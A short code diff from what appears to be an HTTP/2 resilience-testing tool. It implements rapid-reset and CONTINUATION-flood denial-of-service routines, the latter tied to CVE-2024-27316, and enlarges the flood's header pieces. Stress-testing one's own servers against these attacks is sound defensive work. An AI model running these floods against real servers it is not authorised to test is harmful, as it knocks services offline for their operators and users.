@@ -71,10 +71,10 @@ export const rapidReset = (target: Target, path: string, signal: AbortSignal): P
   return abuse(target, (index) => [headersFrame(1 + 2 * index, block), rstFrame(1 + 2 * index)], 2000, signal)
 }
 
-/** One header block that never ends, at most 1,000 small pieces (CVE-2024-27316 and its kin). */
+/** One header block that never ends, at most 1,000 pieces of about 100 bytes (CVE-2024-27316 and its kin). */
 export const continuationFlood = (target: Target, path: string, signal: AbortSignal): Promise<FrameBehaviour> => {
   const block = requestBlock(target.authority, path, target.secure)
-  const piece = literal('x-shopwarden', 'resilience')
+  const piece = literal('x-shopwarden', 'resilience'.repeat(8))
   return abuse(
     target,
     (index) => (index === 0 ? [headersFrame(1, block, false)] : [continuationFrame(1, piece)]),
